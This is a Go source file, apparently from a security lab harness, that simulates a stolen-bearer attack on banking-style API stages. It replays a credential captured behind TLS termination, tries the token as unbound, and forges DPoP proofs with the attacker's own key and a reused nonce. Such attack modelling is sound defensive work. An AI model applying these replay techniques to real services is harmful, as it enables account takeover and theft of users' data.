package attacker

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"strings"
	"time"

	"keyladder/internal/problem"
	"keyladder/mobileclient/attacker/attack"
	"keyladder/stages/catalog"
	"keyladder/stages/mechanism/dpop"
	"keyladder/stages/mechanism/session"
	"keyladder/stages/mechanism/token"
	"keyladder/stages/protect"
)

// stolenBearer takes what stands for the user out of a call that was logged behind the
// end of TLS, and no proof of the app, and uses it in a call of its own from there. The log
// holds no secret with which the app could be imitated. A client ID is no
// secret, and no proof either: where apps show nothing else of themselves, it goes along. A token
// that is bound to a key is shown as one that is not, and with a proof of a key that we have.
//
//keyladder:code attack-stolen-bearer
func stolenBearer(ctx context.Context, g *attack.Given) (attack.Result, error) {
	if err := g.Inside.VictimPays(ctx); err != nil {
		return attack.Result{}, fmt.Errorf("the victim does not pay: %w", err)
	}
	var bearer *attack.Captured
	for _, call := range g.Inside.Calls() {
		scheme, _, _ := strings.Cut(call.Header.Get("Authorization"), " ")
		if strings.EqualFold(scheme, session.Scheme) || strings.EqualFold(scheme, token.Scheme) || strings.EqualFold(scheme, token.BoundScheme) {
			bearer = &call
		}
	}
	if bearer == nil {
		return attack.Result{}, errors.New("no call in the log carries anything that stands for its user")
	}
	g.Say("In the log: %s %s, with a credential that stands for the victim.", bearer.Method, bearer.Target)
	_, credential, _ := strings.Cut(bearer.Header.Get("Authorization"), " ")
	taken := []string{credential}
	show, accounts, err := firstServed(ctx, g, bearer, credential)
	if err != nil {
		result, err := attack.Stopped(err)
		result.Stolen = taken
		return result, err
	}
	from, _, err := g.Robbery(accounts)
	if err != nil {
		return attack.Result{}, err
	}
	transfers, err := readWith(ctx, g, bearer, show, "/v1/accounts/"+from.ID+"/transfers")
	if err != nil {
		return attack.Stopped(err)
	}
	err = g.SpendLoot(ctx, func(ctx context.Context) error {
		_, err := readWith(ctx, g, bearer, show, "/v1/accounts")
		return err
	})
	return attack.Result{Claim: true, Data: string(accounts) + "\n" + string(transfers), Stolen: taken}, err
}

// shown is a way to show a credential in a call.
type shown struct {
	how  string
	show func(header http.Header, path string) error
}

// firstServed reads the accounts with a credential, in the first way to show it that is served.
func firstServed(ctx context.Context, g *attack.Given, stolen *attack.Captured, credential string) (show shown, accounts []byte, err error) {
	asItWas := shown{"as it was", func(header http.Header, _ string) error {
		header.Set("Authorization", stolen.Header.Get("Authorization"))
		return nil
	}}
	ways := []shown{asItWas}
	if g.Stage.Call.Sender != catalog.AnySender {
		ways = []shown{
			{"as " + token.Scheme, func(header http.Header, _ string) error {
				token.Set(header, credential)
				return nil
			}},
			{"as " + token.BoundScheme + ", proven with our own key", proven(g, stolen, credential)},
		}
	}
	for _, show = range ways {
		accounts, err = readWith(ctx, g, stolen, show, "/v1/accounts")
		if refused := (*attack.Refusal)(nil); !errors.As(err, &refused) {
			return show, accounts, err
		}
	}
	return show, accounts, err
}

// proven shows a token in calls that are proven as the stage wants it, with a key of the attacker's own. The
// nonce in a proof is one that the server has given to somebody else.
func proven(g *attack.Given, stolen *attack.Captured, credential string) func(http.Header, string) error {
	return func(header http.Header, path string) error {
		caller, err := g.Caller(protect.Identity{Token: credential})
		if err != nil {
			return err
		}
		dressed, err := caller.Dress(protect.Call{Path: path})
		if err != nil {
			return err
		}
		maps.Copy(header, dressed.Header)
		nonce := dpop.NonceOf(stolen.Header.Get(dpop.Field))
		if nonce == "" {
			return nil
		}
		about := dpop.Request{Method: dressed.Method, URL: dressed.URL.String(), Token: credential}
		proof, err := dpop.Sign(caller.Identity().Key, about, nonce, time.Now())
		if err == nil {
			dpop.Set(header, proof)
		}
		return err
	}
}

// readWith reads from the API with the credential of a captured call alone. The machine
// behind the end of TLS says which client certificate it has seen.
func readWith(ctx context.Context, g *attack.Given, stolen *attack.Captured, as shown, path string) ([]byte, error) {
	header := http.Header{"User-Agent": {attack.PublicUserAgent}, "Accept": {protect.JSON}}
	if err := as.show(header, path); err != nil {
		return nil, err
	}
	if g.Stage.Call.AppProof == catalog.AppKey {
		field := g.Stage.Call.AppProofField()
		header.Set(field, stolen.Header.Get(field))
	}
	status, body, err := g.SendFromInside(ctx, attack.Captured{
		Method: http.MethodGet, Target: "/" + g.Stage.Slug + path, Certificate: stolen.Certificate, Header: header,
	})
	if err != nil {
		return nil, err
	}
	g.Say("Sent GET %s with that credential, %s, and no proof of the app: %d.", path, as.how, status)
	return body, attack.Judge(status, problem.ContentType, body)
}
